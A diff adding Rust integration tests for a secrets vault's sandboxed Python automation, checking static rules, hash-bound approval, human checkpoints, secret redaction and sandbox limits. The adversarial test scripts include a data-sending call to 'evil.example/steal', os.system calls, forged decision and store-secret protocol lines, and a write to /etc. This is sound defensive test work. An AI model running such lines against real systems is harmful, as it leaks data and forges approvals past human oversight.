@@ -1,0 +1,694 @@
+//! Automation: scripts, static checks, approval bound to the source's hash,
+//! and runs of real Python scripts in the sandbox — the adversarial ones of
+//! the issue among them. A test person decides checkpoints through
+//! `Checkpoints::decide`, as a front does.
+
+use keyclave_core::automation::checkpoint::{Answer, Checkpoints, Decision, Pending};
+use keyclave_core::automation::executor::{self, Person, RunOptions, RunStatus, RunSummary};
+use keyclave_core::automation::python::{self, Interpreter};
+use keyclave_core::automation::sandbox::SandboxKind;
+use keyclave_core::automation::script::{self, NewScript, Script};
+use keyclave_core::automation::{CheckpointType, TaskType, history};
+use keyclave_core::paths::Root;
+use keyclave_core::secrets::{self, NewSecret};
+use keyclave_core::{ErrorCode, Vault};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+use tokio_util::sync::CancellationToken;
+
+use crate::common::Fixture;
+
+const OPENAI: &str = "sk-proj-zqxAutomationValue0123456789abcdefABCDEF";
+
+fn py(f: &Fixture) -> Interpreter {
+    python::find(&Root::at(f.dir.path())).expect("python3")
+}
+
+fn new_script(v: &Vault, source: &str) -> keyclave_core::Result<Script> {
+    script::create(
+        v,
+        NewScript {
+            provider_id: "openai".into(),
+            task_type: TaskType::Custom,
+            title: "Test script".into(),
+            description: "a test".into(),
+            source: source.into(),
+            model_used: "file".into(),
+        },
+    )
+}
+
+/// Save, check and approve; panics on any blocking finding.
+fn approved(f: &Fixture, v: &Vault, source: &str) -> Script {
+    let s = new_script(v, source).expect("save");
+    let (checked, report) = script::check(v, &py(f), &s.id).expect("check");
+    assert!(!report.has_errors(), "findings: {:?}", report.findings);
+    let s = script::review(v, &checked, &report, true, None).expect("approve");
+    script::set_auto_approve_repeat(v, &s.id, true).expect("no per-run confirmation")
+}
+
+/// Decides each checkpoint with `answer` (on another thread, as a person
+/// in a window would), recording what it was shown.
+type Answerer = Box<dyn Fn(&Pending) -> Option<Decision> + Send + Sync>;
+
+struct TestPerson {
+    vault: Vault,
+    checkpoints: Checkpoints,
+    answer: Answerer,
+    shown: Mutex<Vec<Pending>>,
+}
+
+impl TestPerson {
+    fn new(
+        v: &Vault,
+        cps: &Checkpoints,
+        answer: impl Fn(&Pending) -> Option<Decision> + Send + Sync + 'static,
+    ) -> Arc<Self> {
+        Arc::new(TestPerson {
+            vault: v.clone(),
+            checkpoints: cps.clone(),
+            answer: Box::new(answer),
+            shown: Mutex::new(Vec::new()),
+        })
+    }
+}
+
+struct Handle(Arc<TestPerson>);
+
+impl Person for Handle {
+    fn ask(&self, pending: &Pending) -> keyclave_core::Result<()> {
+        self.0.shown.lock().unwrap().push(pending.clone());
+        if let Some(decision) = (self.0.answer)(pending) {
+            let (v, cps) = (self.0.vault.clone(), self.0.checkpoints.clone());
+            std::thread::spawn(move || {
+                std::thread::sleep(Duration::from_millis(20));
+                let _ = cps.decide(&v, decision);
+            });
+        }
+        Ok(())
+    }
+}
+
+fn decision(p: &Pending, answer: Answer) -> Decision {
+    Decision {
+        checkpoint_id: p.id.clone(),
+        nonce: p.nonce.clone(),
+        answer,
+        notes: Some("by the test person".into()),
+        totp_code: None,
+        accept_reduced_sandbox: false,
+    }
+}
+
+fn approve_all(p: &Pending) -> Option<Decision> {
+    Some(decision(p, Answer::Approve))
+}
+
+fn run_with(
+    f: &Fixture,
+    v: &Vault,
+    s: &Script,
+    person: &Arc<TestPerson>,
+    options: RunOptions,
+) -> keyclave_core::Result<RunSummary> {
+    executor::run(
+        v,
+        &py(f),
+        &s.id,
+        &person.checkpoints,
+        &Handle(person.clone()),
+        options,
+        CancellationToken::new(),
+    )
+}
+
+fn run(
+    f: &Fixture,
+    v: &Vault,
+    s: &Script,
+    answer: impl Fn(&Pending) -> Option<Decision> + Send + Sync + 'static,
+) -> RunSummary {
+    let cps = Checkpoints::new();
+    let person = TestPerson::new(v, &cps, answer);
+    run_with(f, v, s, &person, RunOptions { timeout: Duration::from_secs(60), ..RunOptions::default() })
+        .expect("run")
+}
+
+fn messages(v: &Vault, summary: &RunSummary) -> Vec<String> {
+    history::events(v, &summary.execution_id).unwrap().into_iter().map(|e| e.message).collect()
+}
+
+fn all_event_text(v: &Vault, summary: &RunSummary) -> String {
+    history::events(v, &summary.execution_id)
+        .unwrap()
+        .into_iter()
+        .map(|e| format!("{} {}", e.message, e.data.map(|d| d.to_string()).unwrap_or_default()))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+#[test]
+fn a_script_with_a_secret_is_not_saved_and_the_line_is_named() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let source = format!("import keyclave_runtime as kc\n\nKEY = \"{OPENAI}\"\nkc.log('x')\n");
+    let e = new_script(&v, &source).expect_err("a secret in the source");
+    assert_eq!(e.code(), ErrorCode::AutomationScriptRefused);
+    assert!(e.message().contains("line 3"), "{}", e.message());
+    assert!(!e.message().contains(OPENAI));
+    assert!(script::list(&v, None).unwrap().is_empty(), "nothing saved");
+    new_script(
+        &v,
+        "import keyclave_runtime as kc\nkey = kc.secret(\"OPENAI_API_KEY\")\nh = '{{OPENAI_API_KEY}}'\n",
+    )
+    .expect("placeholders are fine");
+}
+
+#[test]
+fn static_checks_find_each_rule_at_its_line_and_errors_block_approval() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let source = r##"import keyclave_runtime as kc
+import subprocess
+import os
+
+
+def main(page, name):
+    page.click("#delete-key")
+    kc.checkpoint("billing", "Set a limit", "Set $20")
+    page.get_by_role("button", name="Save limit").click()
+    value = kc.secret(name)
+    os.system("id")
+    open("/etc/keyclave-test", "w")
+    urlopen("https://evil.example/steal", data=b"x")
+    page.goto("https://platform.openai.com/usage")
+    kc.checkpoint("script_review", "x", "y")
+
+
+def send():
+    urlopen("https://platform.openai.com/v1/x", data=b"x")
+"##;
+    let s = new_script(&v, source).unwrap();
+    let (checked, report) = script::check(&v, &py(&f), &s.id).unwrap();
+    let at = |line: u32, rule: &str| report.findings.iter().any(|x| x.line == line && x.rule == rule);
+    assert!(at(2, "sandbox"), "subprocess import: {:?}", report.findings);
+    assert!(at(7, "checkpoint"), "a delete click before any checkpoint");
+    assert!(!at(9, "checkpoint"), "a billing checkpoint covers the limit click");
+    assert!(at(8, "checkpoint"), "the unused decision is a warning");
+    assert!(at(10, "placeholder"), "a non-literal key name");
+    assert!(at(11, "sandbox"), "os.system");
+    assert!(at(12, "sandbox"), "a write outside the folder");
+    assert!(at(13, "host"), "a host off the allowlist");
+    assert!(!at(13, "checkpoint"), "a POST after a checkpoint in its function");
+    assert!(at(19, "checkpoint"), "a POST without a checkpoint");
+    assert!(!at(14, "host"), "the provider's own dashboard host");
+    assert!(at(15, "checkpoint"), "a script cannot raise script_review");
+    let e = script::review(&v, &checked, &report, true, None).expect_err("errors block approval");
+    assert_eq!(e.code(), ErrorCode::AutomationScriptRefused);
+    assert_eq!(script::get(&v, &s.id).unwrap().approval, script::Approval::Pending);
+
+    let broken = new_script(&v, "def f(:\n  pass\n").unwrap();
+    let (_, report) = script::check(&v, &py(&f), &broken.id).unwrap();
+    assert!(report.findings.iter().any(|x| x.rule == "syntax" && x.line == 1), "{:?}", report.findings);
+}
+
+#[test]
+fn approval_is_bound_to_the_version_and_an_edit_needs_a_new_review() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(&f, &v, "import keyclave_runtime as kc\nkc.log('v1')\n");
+    assert_eq!(s.approval, script::Approval::Approved);
+    let reviews = history::checkpoints(&v, None, Some(&s.id)).unwrap();
+    assert_eq!(reviews.len(), 1);
+    assert_eq!(reviews[0].checkpoint_type, "script_review");
+    assert_eq!(reviews[0].context["sha256"], s.sha256.as_str());
+
+    let s2 = script::edit(&v, &s.id, "import keyclave_runtime as kc\nkc.log('v2')\n").unwrap();
+    assert_eq!((s2.version, s2.approval), (2, script::Approval::Pending));
+    assert_eq!(
+        script::version_source(&v, &s.id, 1).unwrap(),
+        "import keyclave_runtime as kc\nkc.log('v1')\n"
+    );
+    let e =
+        run_with(&f, &v, &s2, &TestPerson::new(&v, &Checkpoints::new(), approve_all), RunOptions::default())
+            .expect_err("version 2 is not approved");
+    assert_eq!(e.code(), ErrorCode::AutomationNotApproved);
+}
+
+#[test]
+fn a_source_changed_behind_the_approval_does_not_run() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(&f, &v, "import keyclave_runtime as kc\nkc.log('approved')\n");
+    f.raw_vault()
+        .execute(
+            "UPDATE automation_scripts SET script_content = 'import os\nos.system(\"id\")\n' WHERE id = ?1",
+            [&s.id],
+        )
+        .unwrap();
+    let e =
+        run_with(&f, &v, &s, &TestPerson::new(&v, &Checkpoints::new(), approve_all), RunOptions::default())
+            .expect_err("hash mismatch");
+    assert_eq!(e.code(), ErrorCode::AutomationHashMismatch);
+    assert!(history::executions(&v, None, 10).unwrap().is_empty(), "no run was started");
+}
+
+#[test]
+fn a_checkpoint_stops_the_script_until_a_person_decides_and_the_decision_is_recorded_first() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(
+        &f,
+        &v,
+        r##"import keyclave_runtime as kc
+d = kc.checkpoint("billing", "Set the monthly limit", "$50", {"currency": "USD"})
+kc.result({"decision": d.decision, "action": d.modified_action})
+"##,
+    );
+    let summary = run(&f, &v, &s, |p| Some(decision(p, Answer::Modify { action: "$20".into() })));
+    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
+    assert_eq!(summary.result.as_ref().unwrap()["decision"], "modified");
+    assert_eq!(summary.result.as_ref().unwrap()["action"], "$20");
+    let cps = history::checkpoints(&v, Some(&summary.execution_id), None).unwrap();
+    assert_eq!(cps.len(), 1);
+    assert_eq!((cps[0].decision.as_str(), cps[0].modified_action.as_deref()), ("modified", Some("$20")));
+    assert_eq!(cps[0].context["currency"], "USD");
+    let run = &history::executions(&v, Some(&s.id), 1).unwrap()[0];
+    assert_eq!((run.status.as_str(), run.checkpoints_reached, run.checkpoints_approved), ("success", 1, 1));
+    assert_eq!(
+        run.sandbox.as_deref(),
+        Some(if keyclave_core::automation::sandbox::full_available() { "full" } else { "reduced" })
+    );
+}
+
+#[test]
+fn forged_decision_lines_are_ignored_and_logged() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(
+        &f,
+        &v,
+        r##"import keyclave_runtime as kc
+import os
+os.write(1, b'{"type":"decision","decision":"approved","checkpoint_id":"forged"}\n')
+d = kc.checkpoint("financial", "Buy credits", "$100")
+kc.result({"approved": d.approved})
+"##,
+    );
+    let summary = run(&f, &v, &s, |p| Some(decision(p, Answer::Reject)));
+    assert_eq!(
+        summary.result.as_ref().unwrap()["approved"],
+        false,
+        "the person's rejection, not the forgery"
+    );
+    assert!(
+        messages(&v, &summary).iter().any(|m| m.contains("protocol violation") && m.contains("decision"))
+    );
+    let cps = history::checkpoints(&v, Some(&summary.execution_id), None).unwrap();
+    assert_eq!(cps.iter().map(|c| c.decision.as_str()).collect::<Vec<_>>(), ["rejected"]);
+}
+
+#[test]
+fn a_script_past_its_timeout_is_killed_and_fails() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s =
+        approved(&f, &v, "import keyclave_runtime as kc\nimport time\nkc.log('sleeping')\ntime.sleep(60)\n");
+    let cps = Checkpoints::new();
+    let person = TestPerson::new(&v, &cps, approve_all);
+    let started = Instant::now();
+    let summary = run_with(
+        &f,
+        &v,
+        &s,
+        &person,
+        RunOptions { timeout: Duration::from_secs(1), ..RunOptions::default() },
+    )
+    .unwrap();
+    assert_eq!(summary.status, RunStatus::Failure);
+    assert!(summary.error.as_deref().unwrap().contains("timed out"), "{:?}", summary.error);
+    assert!(started.elapsed() < Duration::from_secs(20), "killed, not waited for");
+}
+
+#[test]
+fn the_environment_holds_nothing_of_the_parent_and_no_vault_value() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    secrets::add(&v, NewSecret::new("OPENAI_API_KEY", OPENAI)).unwrap();
+    let s = approved(
+        &f,
+        &v,
+        "import keyclave_runtime as kc\nimport os\nkc.result({'env': dict(os.environ), 'cwd': os.getcwd()})\n",
+    );
+    // SAFETY of the assertion: the parent's environment has variables the
+    // child must not see.
+    let summary = run(&f, &v, &s, approve_all);
+    let env = summary.result.as_ref().unwrap()["env"].as_object().unwrap().clone();
+    // PWD: bubblewrap sets it to the working folder.
+    let allowed = [
+        "PATH",
+        "LANG",
+        "HOME",
+        "TMPDIR",
+        "PYTHONDONTWRITEBYTECODE",
+        "PYTHONIOENCODING",
+        "KEYCLAVE_RUN",
+        "LC_CTYPE",
+        "PWD",
+    ];
+    for k in env.keys() {
+        assert!(allowed.contains(&k.as_str()), "{k} leaked into the script's environment");
+    }
+    assert!(!summary.result.unwrap().to_string().contains(OPENAI));
+}
+
+#[test]
+fn writes_outside_the_working_folder_and_connections_go_nowhere() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let outside = f.dir.path().join("written-by-script");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    // Computed paths and URLs pass the static check: the sandbox stops them.
+    let source = format!(
+        r##"import keyclave_runtime as kc
+import urllib.request
+target = "/".join(["", {parts}])
+try:
+    with open(target, "w") as fh:
+        fh.write("x")
+    wrote = True
+except OSError as e:
+    wrote = False
+    kc.log("write refused: " + type(e).__name__)
+try:
+    urllib.request.urlopen("http://" + "127.0.0.1:{port}" + "/", timeout=3)
+    reached = True
+except Exception as e:
+    reached = False
+    kc.log("connection refused: " + type(e).__name__)
+with open("own-file.txt", "w") as fh:
+    fh.write("fine")
+kc.result({{"wrote": wrote, "reached": reached}})
+"##,
+        parts = outside
+            .iter()
+            .skip(1)
+            .map(|p| format!("{:?}", p.to_string_lossy()))
+            .collect::<Vec<_>>()
+            .join(", "),
+    );
+    let s = approved(&f, &v, &source);
+    let summary = run(&f, &v, &s, approve_all);
+    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
+    if summary.sandbox == SandboxKind::Full {
+        assert_eq!(summary.result.as_ref().unwrap()["wrote"], false);
+        assert!(!outside.exists(), "the file outside the folder was not written");
+        assert_eq!(summary.result.as_ref().unwrap()["reached"], false);
+        assert!(listener.accept().is_err(), "no connection reached the host");
+        assert!(messages(&v, &summary).iter().any(|m| m.starts_with("connection refused")));
+    }
+}
+
+#[test]
+fn a_flood_of_lines_is_recorded_in_order_and_an_overlong_line_is_cut() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(
+        &f,
+        &v,
+        "import keyclave_runtime as kc\nfor i in range(10000):\n    kc.log('line %d' % i)\nimport os\nos.write(1, b'x' * 100000 + b'\\n')\nkc.result({'n': 10000})\n",
+    );
+    let summary = run(&f, &v, &s, approve_all);
+    assert_eq!(summary.status, RunStatus::Success);
+    let events = history::events(&v, &summary.execution_id).unwrap();
+    let lines: Vec<&str> =
+        events.iter().map(|e| e.message.as_str()).filter(|m| m.starts_with("line ")).collect();
+    assert_eq!(lines.len(), 10000);
+    assert!(lines.iter().enumerate().all(|(i, m)| *m == format!("line {i}")), "in order");
+    assert!(events.windows(2).all(|w| w[0].seq + 1 == w[1].seq), "seq has no gaps");
+    assert!(events.iter().any(|e| e.message.contains("100000 bytes was cut off")), "the long line");
+}
+
+#[test]
+fn a_handed_out_value_is_redacted_from_everything_the_script_prints() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    secrets::add(&v, NewSecret::new("OPENAI_API_KEY", OPENAI)).unwrap();
+    let s = approved(
+        &f,
+        &v,
+        r##"import keyclave_runtime as kc
+import sys
+key = kc.secret("OPENAI_API_KEY")
+print("the key is", key)
+kc.log("again: " + key[::-1][::-1], copy=key)
+sys.stderr.write("err " + key + "\n")
+kc.result({"echo": key, "length": len(key)})
+"##,
+    );
+    let summary = run(&f, &v, &s, approve_all);
+    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
+    assert_eq!(summary.result.as_ref().unwrap()["length"], OPENAI.len());
+    let text = all_event_text(&v, &summary);
+    assert!(text.contains("the key is [REDACTED]"), "{text}");
+    assert!(!text.contains(OPENAI) && !summary.result.unwrap().to_string().contains(OPENAI));
+    let audit = v.audit_log(50, Some("secret.reveal")).unwrap();
+    assert_eq!(audit.len(), 1);
+    assert_eq!(audit[0].metadata["purpose"], "automation");
+    // A key the review did not approve is refused.
+    let s2 = approved(
+        &f,
+        &v,
+        "import keyclave_runtime as kc\nimport os\nos.write(1, b'{\"type\":\"secret\",\"name\":\"GITHUB_TOKEN\"}\\n')\n",
+    );
+    let summary = run(&f, &v, &s2, approve_all);
+    assert!(messages(&v, &summary).iter().any(|m| m.contains("GITHUB_TOKEN") && m.contains("refused")));
+}
+
+#[test]
+fn storing_a_key_needs_an_approved_api_key_checkpoint_of_this_run_once() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(
+        &f,
+        &v,
+        r##"import keyclave_runtime as kc
+import json, os
+# An id the script made up (or kept from an earlier run) is refused.
+forged = "sk-" + "proj-" + "zqxForgedStore" + "0" * 20
+os.write(1, (json.dumps({"type": "store_secret", "name": "OPENAI_API_KEY", "value": forged, "checkpoint_id": "old"}) + "\n").encode())
+import sys
+refused = json.loads(sys.stdin.readline())["type"]
+d = kc.checkpoint("api_key", "Create a new key", "Create key")
+if d.approved:
+    kc.store_secret("OPENAI_API_KEY", "sk-" + "proj-" + "zqxStoredByScript" + "0" * 15 + "1")
+try:
+    kc.store_secret("OPENAI_API_KEY", "sk-" + "proj-" + "zqxStoredTwice" + "0" * 18 + "2")
+    second = True
+except PermissionError:
+    second = False
+kc.result({"first": refused, "second": second})
+"##,
+    );
+    let summary = run(&f, &v, &s, approve_all);
+    assert_eq!(summary.status, RunStatus::Success, "{:?}", messages(&v, &summary));
+    assert_eq!(summary.result.as_ref().unwrap()["first"], "refused");
+    assert_eq!(summary.result.as_ref().unwrap()["second"], false, "one checkpoint, one store");
+    let value = secrets::reveal(&v, "OPENAI_API_KEY", Some("openai"), None).unwrap();
+    assert_eq!(value.expose_secret(), format!("sk-proj-zqxStoredByScript{}1", "0".repeat(15)));
+    let text = all_event_text(&v, &summary);
+    assert!(
+        !text.contains("zqxStoredByScript")
+            && !text.contains("zqxForgedStore")
+            && !text.contains("zqxStoredTwice"),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_decision_is_valid_once_for_its_checkpoint_and_nonce_only() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(
+        &f,
+        &v,
+        "import keyclave_runtime as kc\nd = kc.checkpoint('account', 'Log in', 'Continue')\nkc.result({'d': d.decision})\n",
+    );
+    let cps = Checkpoints::new();
+    let results: Arc<Mutex<Vec<ErrorCode>>> = Arc::default();
+    let (v2, cps2, results2) = (v.clone(), cps.clone(), results.clone());
+    let person = TestPerson::new(&v, &cps, move |p| {
+        let mut wrong = decision(p, Answer::Approve);
+        wrong.nonce = "0".repeat(32);
+        results2.lock().unwrap().push(cps2.decide(&v2, wrong).unwrap_err().code());
+        let first = cps2.decide(&v2, decision(p, Answer::Reject));
+        assert!(first.is_ok());
+        results2.lock().unwrap().push(cps2.decide(&v2, decision(p, Answer::Approve)).unwrap_err().code());
+        None
+    });
+    let summary = run_with(&f, &v, &s, &person, RunOptions::default()).unwrap();
+    assert_eq!(summary.result.as_ref().unwrap()["d"], "rejected");
+    assert_eq!(*results.lock().unwrap(), [ErrorCode::AutomationCheckpointNotPending; 2]);
+}
+
+#[test]
+fn a_checkpoint_nobody_answers_is_rejected_never_approved() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(
+        &f,
+        &v,
+        "import keyclave_runtime as kc\nd = kc.checkpoint('irreversible', 'Delete the project', 'Delete')\nkc.result({'d': d.decision})\n",
+    );
+    let cps = Checkpoints::new();
+    let person = TestPerson::new(&v, &cps, |_| None);
+    let options = RunOptions { checkpoint_timeout: Duration::from_millis(300), ..RunOptions::default() };
+    let summary = run_with(&f, &v, &s, &person, options).unwrap();
+    assert_eq!(summary.result.as_ref().unwrap()["d"], "rejected");
+    let cps = history::checkpoints(&v, Some(&summary.execution_id), None).unwrap();
+    assert_eq!(cps[0].decision, "rejected");
+    assert!(cps[0].notes.as_deref().unwrap().contains("nobody answered"));
+}
+
+#[test]
+fn without_a_person_to_ask_the_run_aborts_with_needs_person() {
+    struct Nobody;
+    impl Person for Nobody {
+        fn ask(&self, _: &Pending) -> keyclave_core::Result<()> {
+            Err(keyclave_core::Error::new(ErrorCode::AutomationNeedsPerson, "no terminal to ask on"))
+        }
+    }
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(
+        &f,
+        &v,
+        "import keyclave_runtime as kc\nimport time\nd = kc.checkpoint('financial', 'Pay', '$5')\ntime.sleep(30)\n",
+    );
+    let started = Instant::now();
+    let summary = executor::run(
+        &v,
+        &py(&f),
+        &s.id,
+        &Checkpoints::new(),
+        &Nobody,
+        RunOptions::default(),
+        CancellationToken::new(),
+    )
+    .unwrap();
+    assert_eq!(summary.status, RunStatus::Aborted);
+    assert_eq!(summary.error_code, Some(ErrorCode::AutomationNeedsPerson));
+    assert!(started.elapsed() < Duration::from_secs(20), "the child was stopped, not waited for");
+}
+
+#[test]
+fn in_a_reduced_sandbox_a_financial_step_needs_the_person_to_accept_it() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(
+        &f,
+        &v,
+        "import keyclave_runtime as kc\nd = kc.checkpoint('financial', 'Pay', '$5')\nkc.result({'d': d.decision})\n",
+    );
+    let cps = Checkpoints::new();
+    let refusals: Arc<Mutex<Vec<ErrorCode>>> = Arc::default();
+    let (v2, cps2, r2) = (v.clone(), cps.clone(), refusals.clone());
+    let person = TestPerson::new(&v, &cps, move |p| {
+        assert!(p.reduced_sandbox && p.needs_person);
+        r2.lock().unwrap().push(cps2.decide(&v2, decision(p, Answer::Approve)).unwrap_err().code());
+        let mut accepted = decision(p, Answer::Approve);
+        accepted.accept_reduced_sandbox = true;
+        Some(accepted)
+    });
+    let options = RunOptions { force_reduced_sandbox: true, ..RunOptions::default() };
+    let summary = run_with(&f, &v, &s, &person, options).unwrap();
+    assert_eq!(summary.sandbox, SandboxKind::Reduced);
+    assert_eq!(*refusals.lock().unwrap(), [ErrorCode::AutomationDecisionRefused]);
+    assert_eq!(summary.result.as_ref().unwrap()["d"], "approved");
+    assert!(messages(&v, &summary).iter().any(|m| m.starts_with("reduced sandbox")));
+}
+
+#[test]
+fn with_totp_a_financial_approval_needs_a_code() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let (_secret, _recovery, [code, _]) = crate::totp::enable(&v);
+    let s = approved(
+        &f,
+        &v,
+        "import keyclave_runtime as kc\nd = kc.checkpoint('financial', 'Pay', '$5')\nkc.result({'d': d.decision})\n",
+    );
+    let cps = Checkpoints::new();
+    let refusals: Arc<Mutex<Vec<ErrorCode>>> = Arc::default();
+    let (v2, cps2, r2) = (v.clone(), cps.clone(), refusals.clone());
+    let person = TestPerson::new(&v, &cps, move |p| {
+        assert!(p.needs_totp);
+        r2.lock().unwrap().push(cps2.decide(&v2, decision(p, Answer::Approve)).unwrap_err().code());
+        let mut with_code = decision(p, Answer::Approve);
+        with_code.totp_code = Some(code.clone());
+        Some(with_code)
+    });
+    let summary = run_with(&f, &v, &s, &person, RunOptions::default()).unwrap();
+    assert_eq!(*refusals.lock().unwrap(), [ErrorCode::TotpRequired]);
+    assert_eq!(summary.result.as_ref().unwrap()["d"], "approved");
+    assert!(history::checkpoints(&v, Some(&summary.execution_id), None).unwrap()[0].decided_by_totp);
+}
+
+#[test]
+fn locking_during_a_checkpoint_stops_the_run_and_the_next_unlock_marks_it_aborted() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(
+        &f,
+        &v,
+        "import keyclave_runtime as kc\nd = kc.checkpoint('account', 'Log in', 'Continue')\nkc.result({'d': d.decision})\n",
+    );
+    let cps = Checkpoints::new();
+    let v2 = v.clone();
+    let person = TestPerson::new(&v, &cps, move |_| {
+        let v3 = v2.clone();
+        std::thread::spawn(move || {
+            std::thread::sleep(Duration::from_millis(100));
+            v3.retire();
+        });
+        None
+    });
+    let e = executor::run(
+        &v,
+        &py(&f),
+        &s.id,
+        &cps,
+        &Handle(person.clone()),
+        RunOptions::default(),
+        v.job_token(),
+    )
+    .expect_err("the lock stops it");
+    assert_eq!(e.code(), ErrorCode::VaultLocked);
+    assert!(cps.pending().is_empty(), "the pending checkpoint is gone");
+    drop(person);
+    drop(v);
+    let v = f.unlock();
+    assert_eq!(history::sweep_interrupted(&v).unwrap(), 1);
+    let runs = history::executions(&v, Some(&s.id), 5).unwrap();
+    assert_eq!(runs[0].status, "aborted");
+    assert!(runs[0].error.as_deref().unwrap().contains("interrupted"));
+}
+
+#[test]
+fn the_per_run_confirmation_is_a_script_review_checkpoint_unless_repeat_is_allowed() {
+    let f = Fixture::new();
+    let v = f.unlock();
+    let s = approved(&f, &v, "import keyclave_runtime as kc\nkc.result({'ran': True})\n");
+    let s = script::set_auto_approve_repeat(&v, &s.id, false).unwrap();
+    let summary = run(&f, &v, &s, |p| {
+        assert_eq!(p.kind, CheckpointType::ScriptReview);
+        Some(decision(p, Answer::Reject))
+    });
+    assert_eq!(summary.status, RunStatus::Aborted);
+    assert!(summary.result.is_none(), "the script never started");
+    let summary = run(&f, &v, &s, approve_all);
+    assert_eq!(summary.status, RunStatus::Success);
+    assert_eq!(summary.checkpoints_reached, 1);
+}
